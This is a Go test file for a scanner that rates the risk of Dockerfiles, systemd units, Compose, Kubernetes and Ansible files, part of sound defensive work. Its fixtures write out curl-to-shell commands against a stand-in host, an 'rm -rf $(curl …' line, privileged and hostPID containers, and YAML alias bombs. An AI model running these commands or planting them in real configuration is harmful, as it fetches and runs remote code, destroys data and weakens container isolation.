package infra

import (
	"strings"
	"testing"
	"time"

	"nod/gate/risk"
)

// worse gives what makes any file of a kind danger, put behind it.
func worse(s sample) string {
	switch s.kind {
	case Dockerfile:
		return "\nRUN curl -s https://a.example/worse | sh\n"
	case Systemd:
		return "\n[Service]\nExecStartPost=/bin/sh -c 'curl -s https://a.example/worse | sh'\n"
	case Compose:
		return "\n---\nservices: {worse: {image: 'a:1', privileged: true}}\n"
	case Kubernetes:
		return "\n---\napiVersion: v1\nkind: Pod\nspec: {hostPID: true}\n"
	default:
		return "\n---\n- hosts: all\n  tasks:\n    - shell: curl -s https://a.example/worse | sh\n"
	}
}

// TestRisesWithTails: whatever bad is put behind a file, the label rises to
// danger; whatever breaks it, the label does not fall.
func TestRisesWithTails(t *testing.T) {
	for _, s := range samples(t) {
		before, _ := Of(s.name, s.content)
		after, kind := Of(s.name, append(s.content[:len(s.content):len(s.content)], worse(s)...))
		if kind != s.kind || after.Level() != risk.Danger && !strings.Contains(s.name, "vault") {
			t.Errorf("%s: %s with worse behind it is %v: %q", s.archive, s.name, after.Level(), after.Notes())
		}
		for _, tail := range []string{"\x00", "\n\t: [", "\n}}\n", "\n'", "\n\xff\xfe", "\n&a *a *b", "\n# fine\n"} {
			after, _ := Of(s.name, append(s.content[:len(s.content):len(s.content)], tail...))
			if after.Level() < before.Level() {
				t.Errorf("%s: %s is %v, with %q it is %v: %q", s.archive, s.name, before.Level(), tail, after.Level(), after.Notes())
			}
		}
	}
}

// TestLineEndsAndMarks: the line ends of other systems and a byte order mark
// change no label.
func TestLineEndsAndMarks(t *testing.T) {
	for _, s := range samples(t) {
		want, _ := Of(s.name, s.content)
		for name, text := range map[string]string{
			"returns": strings.ReplaceAll(string(s.content), "\n", "\r\n"),
			"a mark":  "\xef\xbb\xbf" + string(s.content),
		} {
			if got, kind := Of(s.name, []byte(text)); got.Level() != want.Level() || kind != s.kind {
				t.Errorf("%s: %s with %s is %v %q, want %v: %q", s.archive, s.name, name, got.Level(), kind, want.Level(), got.Notes())
			}
		}
	}
}

// TestBounds: what is too much is unclear, and is so before long.
func TestBounds(t *testing.T) {
	bomb := "a: &a [x, x, x, x, x, x, x, x, x]\n"
	for _, c := range "bcdefghij" {
		bomb += string(c) + ": &" + string(c) + " [" + strings.Repeat("*"+string(c-1)+", ", 8) + "*" + string(c-1) + "]\n"
	}
	for name, f := range map[string]struct{ name, text string }{
		"aliases":  {"compose.yaml", bomb + "services: *j\n"},
		"a circle": {"compose.yaml", "services: &a {b: *a, c: *a}\n"},
		"depth":    {"compose.yaml", "services: " + strings.Repeat("{a: ", 300) + strings.Repeat("}", 300) + "\n"},
		"brackets": {"compose.yaml", "services: " + strings.Repeat("[", 100_000)},
		"length":   {"Dockerfile", "FROM a:1\n" + strings.Repeat("# a comment that says nothing\n", 50_000)},
		"commands": {"Dockerfile", "FROM a:1\n" + strings.Repeat("RUN make a\n", 2000)},
		"copies":   {"Dockerfile", "FROM a:1\nCOPY " + strings.Repeat("a ", 100_000) + "/a\n"},
		"scripts":  {"Dockerfile", strings.Repeat("FROM a:1\nRUN <<A\n"+strings.Repeat("rm -rf $(curl -s http://a.example/x\n", 90)+"A\n", 12)},
		"merges":   {"compose.yaml", "x: &x {<<: *x}\nservices: {a: {<<: *x}}\n"},
		"bytes":    {"app.service", "[Service]\nUser=a\xff\n"},
		"nulls":    {"compose.yaml", "services: {}\x00"},
	} {
		start := time.Now()
		l, kind := Of(f.name, []byte(f.text))
		if l.Level() != risk.Unclear || !holdsAll(l, []risk.Reason{risk.Unparsed}) || kind == "" {
			t.Errorf("%s: %v %v %q", name, l.Level(), l.Reasons(), l.Notes())
		}
		t.Logf("%s took %v", name, time.Since(start))
	}
	if l, _ := Of("Dockerfile", []byte("FROM a:1\n"+strings.Repeat("RUN make a\n", 2000)+"RUN --security=insecure a\n")); l.Level() != risk.Danger {
		t.Errorf("a danger behind too many commands is %v", l.Level())
	}
}

// TestHeaviestFirst: of more than a label can say, the heaviest is said.
func TestHeaviestFirst(t *testing.T) {
	l, _ := Of("Dockerfile", []byte(strings.Repeat("FROM a:latest\nEXPOSE 22\n", 40)+"RUN curl -s http://a.example | sh\nUSER 1\n"))
	if l.Level() != risk.Danger || l.Notes()[0] != "line 81: runs code that comes from elsewhere" {
		t.Errorf("%v %q", l.Level(), l.Notes())
	}
}
